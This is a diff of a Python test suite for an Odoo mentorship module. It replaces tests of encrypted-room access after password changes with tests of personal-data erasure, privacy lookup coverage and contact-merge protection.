-        before = len(self._told())
-        self.env["res.users"].with_user(self.mentee_user).change_password(
-            "first-password", "second-password"
-        )
-        self.assertTrue(self._stands().is_open)
-        self.assertEqual(len(self._told()), before)
+    def test_erasing_a_person_takes_their_texts_and_keys_alone(self):
+        numbers = self._numbers()
+        self.mentee.with_user(self.manager).action_mentorship_erase()
+        self.assertFalse(self._room_keys(("author_id", "=", self.mentee.id)))
+        left = self._sealed()
+        authors = {record.author_id for records in left.values() for record in records}
+        self.assertLessEqual(authors, {self.mentor})
+        kept = self._written[2]
+        self.assertEqual(self._reads(self.mentor, kept), {kept: {"text": SECRET}})
+        self.assertFalse(self._reads(self.mentor, self._written[:2]))
+        self.assertEqual(self._given.state, "revoked")
+        after = self._numbers()
+        for name in ("note_count", "goal_count", "plan_count", "agreement_state"):
+            self.assertEqual(after[name], numbers[name], name)
 
-    def test_another_member_confirms_or_objects(self):
-        self.mentee_user.password = "another-password"
-        (row,) = self._stands(self.mentor_user).others
-        logins.object_to(self.keys, row)
-        later = fields.Datetime.now() + timedelta(days=3)
-        with patch.object(fields.Datetime, "now", lambda: later):
-            self.assertTrue(self._stands().objected)
-            self.assertFalse(self._stands().is_open)
-        logins.confirm(self.keys, row)
-        self.assertTrue(self._stands().is_open)
+    def test_who_is_erased_is_named_nowhere_and_can_be_deleted(self):
+        self._every_name()
+        self.mentee.with_user(self.manager).action_mentorship_erase()
+        self.env.flush_all()
+        self.env.invalidate_all()
+        for model, name, _field in self.mentee._mentorship_references():
+            with self.subTest(f"{model._name}.{name}"):
+                named = model.with_context(active_test=False).search(
+                    [(name, "in", self.mentee.ids)]
+                )
+                self.assertFalse(named)
+        self.assertFalse(self._found_by_lookup())
+        self.env["membership.membership_line"].search(
+            [("partner_id", "=", self.mentee.id)]
+        ).unlink()
+        self.mentee_user.unlink()
+        with mute_logger("odoo.models.unlink"):
+            self.mentee.unlink()
+        self.assertFalse(self.mentee.exists())
 
-    def test_without_a_word_it_opens_after_a_day(self):
-        self.mentee_user.password = "another-password"
-        now = fields.Datetime.now()
-        for hours, is_open in ((23, False), (25, True)):
-            later = now + timedelta(hours=hours)
-            with patch.object(fields.Datetime, "now", lambda later=later: later):
-                self.assertEqual(self._stands().is_open, is_open)
+    def test_contacts_with_a_room_are_not_merged_into_another(self):
+        double = self.mentee.copy({"name": "Mentee again"})
+        self.env.flush_all()
+        wizard = self.env["base.partner.merge.automatic.wizard"].create({})
+        with self.assertRaises(UserError):
+            wizard._merge((self.mentee | double).ids, double)
+        self.assertTrue(self.mentee.exists())
+        kept = self._written[0]
+        self.assertEqual(self._reads(self.mentor, kept), {kept: {"text": SECRET}})
+        wizard._merge((self.mentee | double).ids, self.mentee)
+        self.assertFalse(double.exists())
+        self.assertEqual(self._reads(self.mentor, kept), {kept: {"text": SECRET}})
 
-    def test_rows_that_are_forged_or_removed_open_nothing(self):
-        self.mentee_user.password = "another-password"
-        self.assertFalse(self._stands().is_open)
-        row = self.env["mentorship.room.access"].search(
-            [("user_id", "=", self.mentee_user.id)]
-        )
-        row.closed_on = fields.Datetime.now() - timedelta(days=9)
-        self.assertFalse(self._stands().is_open, "backdated")
-        mentors = row.search([("user_id", "=", self.mentor_user.id)])
-        row.trusted = mentors.trusted
-        self.assertFalse(self._stands().is_open, "somebody else's signature")
-        row.unlink()
-        self.assertFalse(self._stands().is_open, "no row, but something is there")
+    def test_the_privacy_lookup_finds_every_record_that_names_a_person(self):
+        self._every_name()
+        named = {}
+        for model, name, _field in self.mentee._mentorship_references():
+            found = model.with_context(active_test=False).search(
+                [(name, "in", self.mentee.ids)]
+            )
+            named.setdefault(model._name, set()).update(found.ids)
+        empty = [model for model, ids in named.items() if not ids]
+        self.assertFalse(empty, "the test makes no record of these")
+        found = self._found_by_lookup()
+        for model, ids in named.items():
+            with self.subTest(model):
+                self.assertLessEqual(ids, found.get(model, set()))
 
-    def test_who_never_chose_a_password_comes_in_the_first_time(self):
-        newcomer = self._member("newcomer", years=1)
-        self.env.cr.execute(
-            "UPDATE res_users SET password = NULL WHERE id = %s", [newcomer.id]
+    def _found_by_lookup(self):
+        """Return {model of ours: ids} of what core's lookup finds of the mentee."""
+        self.env.flush_all()
+        wizard = self.env["privacy.lookup.wizard"].create(
+            {"name": self.mentee.name, "email": self.mentee.email}
         )
-        self.edition.late_enrolment = True
-        enrolment = self._enrol(newcomer.partner_id, "mentee")
-        self.pairing = self._pair(
-            self.pairing.mentor_enrolment_id, enrolment, accept=True
-        )
-        self._write(self.pairing._new_note(self.mentor, "note", "room")[0])
-        newcomer.password = "chosen-password"
-        self.assertTrue(self._stands(newcomer).is_open)
+        wizard.action_lookup()
+        found = {}
+        for line in wizard.line_ids:
+            if line.res_model.startswith("mentorship."):
+                found.setdefault(line.res_model, set()).add(line.res_id)
+        return found
 
-    def test_a_second_login_of_the_same_contact_is_not_trusted(self):
-        twin = self.mentee_user.copy(
-            {"login": "twin", "partner_id": self.mentee.id, "password": "twin-password"}
+    def _every_name(self):
+        """Make a record of each model of ours that names the mentee."""
+        mentee = self.mentee.id
+        self.env["mentorship.interest"]._note(self.programme, self.mentee)
+        self.env["mentorship.exclusion"].create(
+            {"partner_id": mentee, "other_partner_id": self.member.id}
         )
-        self.assertFalse(self._stands(twin).is_open)
+        for planner in self.pair:
+            self.env["mentorship.meeting"].create(
+                {
+                    "pairing_id": self.pairing.id,
+                    "start": "2030-01-01 10:00:00",
+                    "stop": "2030-01-01 11:00:00",
+                    "planner_id": planner.id,
+                    "attendee_ids": [Command.set(self.pair.ids)],
+                }
+            )
